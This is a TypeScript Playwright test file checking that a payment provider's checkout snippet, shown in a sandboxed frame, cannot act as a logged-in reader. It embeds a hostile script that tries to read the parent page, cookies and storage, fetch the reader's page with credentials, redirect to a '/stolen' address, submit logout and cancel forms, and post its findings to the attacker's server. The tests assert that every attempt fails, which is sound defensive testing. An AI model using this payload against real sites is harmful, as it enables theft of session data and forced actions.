import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { openBrowser } from '../builders/browser.ts';
import type { DemoClient } from '../builders/demo-client.ts';
import { buildFixture, type Fixture } from '../builders/fixture.ts';
import { until } from '../builders/until.ts';
import {
  connectAttacker,
  linkOfReader,
  type OwnProvider,
  openOwnProvider,
  placeOrder,
} from './snippet-shop.ts';

let fixture: Fixture;
let browser: Browser;
let provider: OwnProvider;
let attacker: DemoClient;

before(async () => {
  fixture = await buildFixture();
  browser = await openBrowser();
  provider = await openOwnProvider();
  attacker = await connectAttacker(fixture, provider);
});
after(async () => {
  await browser.close();
  provider.close();
  await fixture.close();
});

/** A browser in which a reader of another publisher has logged in. */
async function browserOfReader(): Promise<BrowserContext> {
  const context = await browser.newContext();
  const page = await context.newPage();
  await page.goto(await linkOfReader(fixture, `solveig.${provider.told.length}@example.com`));
  await page.getByRole('button').first().click();
  await page.goto(`${fixture.url}/user/welcome`);
  assert.match(await page.content(), /Demo/i);
  await page.close();
  return context;
}

/** Everything that a script can try with no press of the buyer's; each tells what it got. */
const attack = (ours: string, theirs: string) => `
  const secret = '${ours}/user/welcome';
  const all = { credentials: 'include' };
  const pause = async () => { for (let n = 0; n < 50; n += 1) await fetch('${theirs}/tell/pause'); };
  const tries = {
    origin: () => self.origin,
    'parent.document': () => parent.document.documentElement.outerHTML,
    'top.document': () => top.document.documentElement.outerHTML,
    'top.location': () => top.location.href,
    'document.cookie': () => { document.cookie = 'a=b'; return document.cookie; },
    localStorage: () => { localStorage.setItem('a', 'b'); return localStorage.getItem('a'); },
    frameElement: () => frameElement.outerHTML,
    fetch: async () => (await fetch(secret, all)).text(),
    'fetch blindly': async () => (await fetch(secret, { ...all, mode: 'no-cors' })).type,
    XMLHttpRequest: () => new Promise((done, fail) => {
      const request = new XMLHttpRequest();
      request.withCredentials = true;
      request.onload = () => done(request.responseText);
      request.onerror = () => fail(new Error('refused'));
      request.open('GET', secret);
      request.send();
    }),
    'leave by script': () => { top.location = '${theirs}/stolen'; return 'tried'; },
    'leave by link': () => {
      const link = document.body.appendChild(document.createElement('a'));
      link.href = '${theirs}/stolen';
      link.target = '_top';
      link.click();
      return 'tried';
    },
    'a window': async () => {
      const opened = window.open(secret);
      await pause();
      return opened?.document.documentElement.outerHTML;
    },
    'a message that leads away': () => {
      parent.postMessage({ leaveTo: '/user/logout' }, '*');
      parent.postMessage({ leaveTo: '${theirs}/stolen' }, '*');
      parent.postMessage({ wants: 'html' }, '*');
      return 'tried';
    },
    'our page in a frame': () => new Promise((done, fail) => {
      const frame = document.createElement('iframe');
      frame.src = secret;
      frame.onload = () => {
        try { done(frame.contentDocument.documentElement.outerHTML); } catch (error) { fail(error); }
      };
      document.body.append(frame);
    }),
    'an empty frame': () => {
      const frame = document.body.appendChild(document.createElement('iframe'));
      return frame.contentWindow.parent.parent.document.title;
    },
    forms: () => {
      for (const action of ['${ours}/user/logout?clientId=no.leveret.demo', orderAddress + '?giveUp=1']) {
        const sink = document.body.appendChild(document.createElement('iframe'));
        sink.name = 'sink' + Math.random();
        const form = document.body.appendChild(document.createElement('form'));
        Object.assign(form, { method: 'post', action, target: sink.name });
        form.innerHTML = '<input name="nonce" value="AAAAAAAAAAAAAAAAAAAAAA">';
        form.submit();
      }
      return 'tried';
    },
  };
  (async () => {
    navigator.sendBeacon('${ours}/user/logout?clientId=no.leveret.demo', new URLSearchParams({ nonce: 'A' }));
    const got = {};
    for (const [name, attempt] of Object.entries(tries)) {
      try { got[name] = { value: String(await attempt()) }; } catch (error) { got[name] = { error: error.name }; }
    }
    await pause();
    await fetch('${theirs}/tell/got', { method: 'POST', body: JSON.stringify(got) });
  })();
`;

type Got = Record<string, { value?: string; error?: string }>;

type Opened = { page: Page; address: string; orderId: number };

async function openCheckout(
  context: BrowserContext,
  makeSnippet: (address: string) => string,
): Promise<Opened> {
  const placed = await placeOrder(attacker);
  provider.told.splice(0);
  provider.snippet = makeSnippet(placed.address);
  const page = await context.newPage();
  await page.goto(placed.address);
  return { page, ...placed };
}

async function told(path: string): Promise<string> {
  return until(`${path} to be told`, async () => provider.told.find((one) => one.path === path)?.body);
}

test('a snippet of a publisher’s own server reads nothing, posts nothing and leads nowhere as the reader', async () => {
  const context = await browserOfReader();
  const { page, address, orderId } = await openCheckout(context, (given) => {
    const script = `const orderAddress = '${given}';${attack(fixture.url, provider.url)}`;
    return `<div id="own">Checkout</div><script>${script}</script>`;
  });
  const got: Got = JSON.parse(await told('/tell/got'));
  const { origin, ...tries } = got;
  assert.deepEqual(origin, { value: 'null' });
  const without = new Set(['tried', 'undefined']);
  for (const [name, { value }] of Object.entries(tries)) {
    assert.ok(value === undefined || without.has(value), `${name} got ${value}`);
  }
  assert.equal(page.url(), address);
  assert.deepEqual(
    provider.told.filter(({ path }) => path === '/stolen'),
    [],
  );
  assert.equal((await attacker.get(`/capi/v1/client/order/${orderId}`)).body['state'], 'paying');
  const reader = await context.newPage();
  await reader.goto(`${fixture.url}/user/welcome`);
  assert.equal((await reader.request.get(`${fixture.url}/user/welcome`)).status(), 200, 'still logged in');
  await context.close();
});

test('what stands in the frame has no origin of ours, and the provider’s own frame within is itself', async () => {
  const context = await browser.newContext();
  const { page } = await openCheckout(context, () => `<iframe src="${provider.url}/frame"></iframe>`);
  assert.deepEqual(JSON.parse(await told('/tell/frame')), { origin: provider.url, stored: '1' });
  const [, frame] = page.frames();
  assert.match(frame?.url() ?? '', /^data:text\/html/);
  assert.equal(await frame?.evaluate('self.origin'), 'null');
  await context.close();
});

test('a snippet that no provider sends is refused, and the buyer may try again', async () => {
  const context = await browser.newContext();
  for (const snippet of ['<script'.repeat(70_000), '<script>a</script>'.repeat(10_000)]) {
    const { page } = await openCheckout(context, () => snippet);
    assert.equal(await page.locator('iframe').count(), 0);
    assert.match(await page.content(), /Prøv igjen|Betal/);
  }
  await context.close();
});
